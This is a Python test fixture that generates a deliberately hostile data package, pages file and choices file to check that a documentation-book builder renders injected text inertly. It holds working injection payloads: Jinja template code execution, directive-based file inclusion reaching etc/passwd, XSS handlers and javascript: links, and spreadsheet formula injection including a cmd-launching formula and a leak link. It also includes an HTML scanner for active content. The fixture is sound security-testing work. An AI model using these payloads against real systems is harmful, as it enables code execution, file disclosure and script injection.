"""A hostile data package, and the pages and choices files that go with it.

A package from a collaborator is data, never code (issue 23). :func:`write_hostile`
copies ``data_synthetic/`` and puts into every text field a reader sees (the study
section, the resource descriptions, category labels, CSV cells, the folder's name) and
into a pages file and a multiverse file one attack each: a Jinja expression that would
run ``touch`` on a marker file, a MyST directive or role that would publish a file from
outside the package (a *canary* written for the purpose), raw HTML with a script, an
event handler, a ``javascript:`` link or an ``<iframe>``, mathtext, emoji, a regular
expression back-reference, a spreadsheet formula. Each attack carries its own number:
``alert(N)`` and the marker file ``sec-marker-N``, so that a failure names the field.

A built book of this package must show every one of them as text: no marker file, no
canary text, no script, handler, ``javascript:`` URL or ``<iframe>`` of ours in any
page, and the formulas neutralised in every exported CSV (``tests/book/test_security.py``,
``tests/browser/test_security_browser.py``).

Nothing here does harm when an attack works: a marker command only creates an empty
file in a temporary folder.

    python -m tests.hostile OUT_DIR      # writes the hostile package and its files
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import sys
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import yaml

from analysis import paths

MARKER_PREFIX = "sec-marker-"
CANARY_TEXT = "CANARY-3f1e9c0b-not-for-publication"
FORMULAS = ('=HYPERLINK("http://example.invalid/?leak{n}","click")', "@SUM({n}+1)",
            "+{n}+cmd|' /C calc'!A0", "-{n}+3+cmd|' /C calc'!A0")
# Enough "../" to climb from any folder of a build to the root: a directive's path is
# relative to the page, and an absolute one is taken relative to the book's source.
UP = "../" * 24


@dataclass
class Hostile:
    """A hostile package and what a test needs to check its book."""

    data_dir: Path
    pages_file: Path
    choices_file: Path
    marker_dir: Path
    canary: Path
    attacks: dict[str, str] = field(default_factory=dict)  # where -> text

    def markers(self) -> list[Path]:
        """Marker files an attack managed to create (none, when the book is safe)."""
        places = [self.marker_dir, Path.cwd(), paths.ROOT, self.data_dir.parent]
        return sorted({p for folder in places for p in folder.glob(f"{MARKER_PREFIX}*")})


def attack(kind: str, n: int, marker_dir: Path, canary: Path) -> str:
    """One attack of ``kind``, numbered ``n`` (its alert and marker file)."""
    marker = marker_dir / f"{MARKER_PREFIX}{n}"
    inside = UP + str(canary).lstrip("/")
    if kind == "formula":
        return FORMULAS[n % len(FORMULAS)].format(n=n)
    # Every attack is told apart by its number, also where it has no alert of its own.
    return f"a{n}\n" + {
        "jinja_exec": '{{ cycler.__init__.__globals__.os.system("touch %s") }}' % marker,
        "jinja_read": '{{ cycler.__init__.__globals__.__builtins__.open("%s").read() }}'
                      % canary,
        "literalinclude": f"```{{literalinclude}} {inside}\n```",
        "include": f"```{{include}} {inside}\n```",
        "raw_file": f"```{{eval-rst}}\n.. raw:: html\n   :file: {inside}\n```",
        "raw_script": f"```{{eval-rst}}\n.. raw:: html\n\n   <script>alert({n})</script>\n```",
        "download": f"see {{download}}`the file <{inside}>`",
        "img": f"Study <img src=x onerror=alert({n})>",
        "script": f"<script>alert({n})</script>",
        "iframe": f'<iframe src="javascript:alert({n})"></iframe>',
        "jslink": f"[click here](javascript:alert({n}))",
        "svg": f"<svg onload=alert({n})>",
        "autolink": f"<javascript:alert({n})>",
        "colon_fence": f":::{{eval-rst}}\n.. raw:: html\n\n   <b onmouseover=alert({n})>x</b>\n:::",
        "markup": f"# heading {n}\n- item\n1. item\n$x^{n}$ **bold** `code` | a | b |",
        "mathtext": f"$\\alpha_{n}$ costs $5 and $6 \U0001F600 \\1 \\g<0>",
        "passwd": f"```{{literalinclude}} {UP}etc/passwd\n```",
    }[kind]


# Every field a page can show, and the attack it holds. Each has a number of its own.
DESCRIPTOR_FIELDS = {
    "study.title": "img",
    "study.description": "jinja_exec",
    "study.reports[0].short": "script",
    "study.reports[0].citation": "raw_file",
    "study.reports[0].what": "literalinclude",
    "study.reports[1].short": "iframe",
    "study.reports[1].citation": "jinja_read",
    "study.reports[1].what": "raw_script",
    "study.setting.country": "jslink",
    "study.setting.region": "svg",
    "study.setting.regions": "download",
    "study.fieldwork.suspensions[0].label": "jinja_exec",
    "study.published[0].quantity": "colon_fence",
    "study.published[0].source": "include",
    "study.published[1].source": "mathtext",
    "invented[0]": "jinja_exec",
    "invented[1]": "img",
    "invented[2]": "raw_script",
    "invented[3]": "markup",
    "invented[4]": "passwd",
    "invented[7]": "autolink",
}
RESOURCE_KINDS = ["jinja_exec", "literalinclude", "script", "img", "raw_file", "jslink",
                  "iframe", "download", "markup", "jinja_read"]
# (file, column, which rows, attack): every row whose column equals the value.
CSV_FIELDS = [
    ("framework.csv", "theme", ("review", "interview_study"), "jinja_exec"),
    ("framework.csv", "subtheme", ("subtheme_id", None), "literalinclude"),
    ("framework.csv", "theme", ("review", "meta_synthesis"), "mathtext"),
    ("studies.csv", "first_author", ("study_id", "S01"), "formula"),
    ("studies.csv", "country", ("study_id", "S02"), "formula"),
    ("studies.csv", "first_author", ("study_id", "S03"), "formula"),
    ("studies.csv", "country", ("study_id", "S04"), "formula"),
    ("search_flow.csv", "source", ("stage", "identified"), "formula"),
    ("cerqual.csv", "explanation", ("component", "coherence"), "script"),
    ("prevalence_studies.csv", "country", ("study_id", "V01"), "mathtext"),
]
# Labels of categories a package declares itself: (table, column, attack).
CATEGORY_FIELDS = [("participants", "region", "img"), ("prevalence_studies", "setting", "script"),
                   ("participants", "interview_mode", "jinja_exec")]
REVIEWER_KINDS = {"R1": "img", "R2": "script"}


def _set(descriptor: dict, where: str, value: str) -> None:
    import re

    keys = [int(k) if k.isdigit() else k for k in re.findall(r"[^.\[\]]+", where)]
    target = descriptor
    for key in keys[:-1]:
        target = target[key]
    target[keys[-1]] = value


def _edit_csv(path: Path, change) -> None:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    header = rows[0]
    for row in rows[1:]:
        change(dict(zip(header, row)), row, header)
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


# The event handlers of the book's theme (sphinx-book-theme's print and full-screen
# buttons), on every page of any book; any other is not the book's.
THEME_HANDLERS = {"window.print()", "toggleFullScreen()"}


class _Page(HTMLParser):
    """What a built page holds that could run: scripts, handlers, URLs, frames."""

    URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs) -> None:
        if tag == "iframe":
            self.found.append(f"<iframe {attrs}>")
        if tag == "script":
            self.in_script = True
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and value not in THEME_HANDLERS:
                self.found.append(f"<{tag} {name}={value!r}>")
            plain = "".join(value.split()).lower()
            if name in self.URL_ATTRIBUTES and plain.startswith(("javascript:", "vbscript:",
                                                                 "data:text/html")):
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag) -> None:
        if tag == "script":
            self.in_script = False

    def handle_data(self, data) -> None:
        if self.in_script and "alert(" in data:
            self.found.append(f"<script>{data.strip()[:80]}</script>")


def active_content(html_dir: Path) -> dict[str, list[str]]:
    """Scripts, event handlers, ``javascript:`` URLs and frames in the built pages that
    the book's own theme does not put there: any ``<iframe>``, any ``on...`` attribute,
    any script that calls ``alert``."""
    found = {}
    for page in sorted(html_dir.rglob("*.html")):
        parser = _Page()
        parser.feed(page.read_text(encoding="utf-8", errors="replace"))
        if parser.found:
            found[str(page.relative_to(html_dir))] = parser.found
    return found


# The ConQual tables (a JBI meta-aggregation), which the bundled data lack: each text
# cell an attack, (file, column, attack) in the order the rows are written.
META_AGGREGATION_KINDS = {"synthesised_findings": ("synthesised_finding", "colon_fence"),
                          "meta_aggregation_categories": ("category", "script"),
                          "meta_aggregation_findings": ("finding", "mathtext")}


def _meta_aggregation(folder: Path, descriptor: dict, take) -> None:
    """Declare and write the three meta-aggregation tables, their text hostile."""
    contract = json.loads(paths.DATA_CONTRACT.read_text(encoding="utf-8"))
    rows = {"synthesised_findings": [["SF1", None]],
            "meta_aggregation_categories": [["C1", None, "SF1"]],
            "meta_aggregation_findings": [["F1", None, "C1", "unequivocal", "S01"],
                                          ["F2", None, "C1", "credible", "S02"]]}
    for resource in contract["resources"]:
        name = resource["name"]
        if name not in rows:
            continue
        descriptor["resources"].append(resource)
        header = [f["name"] for f in resource["schema"]["fields"]]
        column, kind = META_AGGREGATION_KINDS[name]
        with (folder / resource["path"]).open("w", newline="", encoding="utf-8") as f:
            out = csv.writer(f)
            out.writerow(header)
            for row in rows[name]:
                row[header.index(column)] = take(f"{resource['path']}:{column}:{row[0]}", kind)
                out.writerow(row)


def write_hostile(root: Path, marker_dir: Path | None = None) -> Hostile:
    """Write the hostile package, its pages file and its multiverse file under ``root``.

    The canary (a file outside the package that no page may show) and the marker
    folder are written beside them.
    """
    root.mkdir(parents=True, exist_ok=True)
    marker_dir = marker_dir or root / "markers"
    marker_dir.mkdir(exist_ok=True)
    canary = root / "outside" / "canary.txt"
    canary.parent.mkdir(exist_ok=True)
    canary.write_text(CANARY_TEXT + "\n", encoding="utf-8")
    numbers = iter(range(1, 1000))
    attacks: dict[str, str] = {}

    def take(where: str, kind: str) -> str:
        text = attack(kind, next(numbers), marker_dir, canary)
        attacks[where] = text
        return text

    # The folder's name is shown too (parameters, provenance, exercise code): no '/'.
    folder = root / ("hostile <img src=x onerror=alert(900)> "
                     '{{ cycler.__init__.__globals__.os.system("touch sec-marker-901") }}')
    shutil.rmtree(folder, ignore_errors=True)
    shutil.copytree(paths.DATA_SYNTHETIC, folder)
    attacks["folder name"] = folder.name

    path = folder / "datapackage.json"
    descriptor = json.loads(path.read_text(encoding="utf-8"))
    for where, kind in DESCRIPTOR_FIELDS.items():
        _set(descriptor, where, take(where, kind))
    for resource, kind in zip(descriptor["resources"], RESOURCE_KINDS):
        resource["description"] = take(f"resources.{resource['name']}.description", kind)
    for table, column, kind in CATEGORY_FIELDS:
        resource = next(r for r in descriptor["resources"] if r["name"] == table)
        fdef = next(f for f in resource["schema"]["fields"] if f["name"] == column)
        if "enum" not in fdef.get("constraints", {}):
            contract = json.loads(paths.DATA_CONTRACT.read_text(encoding="utf-8"))
            fdef["constraints"]["enum"] = next(
                f for r in contract["resources"] if r["name"] == table
                for f in r["schema"]["fields"] if f["name"] == column)["constraints"]["enum"]
        codes = fdef["constraints"]["enum"]
        # Some of the codes, so that the package declares its own vocabulary.
        fdef["categoryLabels"] = {code: take(f"{table}.{column}.{code} label", kind)
                                  for code in codes[:2]}
        fdef["categoryLabels"].update({code: code.replace("_", " ").capitalize()
                                       for code in codes[2:]})
    _meta_aggregation(folder, descriptor, take)
    path.write_text(json.dumps(descriptor, indent=1, ensure_ascii=False), encoding="utf-8")

    for file, column, (key, value), kind in CSV_FIELDS:
        texts: dict[str, str] = {}

        def change(cells, row, header, column=column, key=key, value=value, kind=kind,
                   texts=texts, file=file):
            if value is None or cells[key] == value:
                original = cells[column]
                if original not in texts:
                    texts[original] = take(f"{file}:{column}:{original}", kind)
                row[header.index(column)] = texts[original]
        _edit_csv(folder / file, change)

    labels = {old: take(f"casp_ratings.csv:reviewer:{old}", kind)
              for old, kind in REVIEWER_KINDS.items()}

    def reviewers(cells, row, header):
        row[header.index("reviewer")] = labels.get(cells["reviewer"], cells["reviewer"])
    _edit_csv(folder / "casp_ratings.csv", reviewers)

    choices = yaml.safe_load(paths.BOOK.joinpath("multiverse.yml").read_text(encoding="utf-8"))
    choices["outcome"] = take("multiverse.yml:outcome", "jinja_exec")
    choices["exclude"][0]["why"] = take("multiverse.yml:exclude[0].why", "raw_script")
    choices_file = root / "multiverse.yml"
    choices_file.write_text(yaml.safe_dump(choices, sort_keys=False, allow_unicode=True),
                            encoding="utf-8")

    spec = yaml.safe_load(paths.PAGES.read_text(encoding="utf-8"))
    spec["parts"][1]["caption"] = take("pages.yml:parts[1].caption", "img")
    for part in spec["parts"]:
        for entry in part["pages"]:
            if entry["page"] == "prisma":
                entry["title"] = take("pages.yml:prisma.title", "mathtext")
            elif entry["page"] == "included_papers":
                entry["title"] = take("pages.yml:included_papers.title", "jinja_exec")
            elif entry["page"] == "themes":
                entry["title"] = take("pages.yml:themes.title", "img")
                entry["parameters"]["country_group"] = [
                    take("pages.yml:themes.country_group", "raw_script")]
            elif entry["page"] == "quality":
                entry["parameters"]["banding_rule"]["name"] = take(
                    "pages.yml:quality.banding_rule.name", "jinja_exec")
            elif entry["page"] == "multiverse":
                entry["parameters"]["choices_file"] = str(choices_file)
    pages_file = root / "pages.yml"
    pages_file.write_text(yaml.safe_dump(spec, sort_keys=False, allow_unicode=True),
                          encoding="utf-8")
    return Hostile(folder, pages_file, choices_file, marker_dir, canary, attacks)


if __name__ == "__main__":
    made = write_hostile(Path(sys.argv[1]))
    print(f"wrote {made.data_dir}\n  pages: {made.pages_file}\n  canary: {made.canary}")
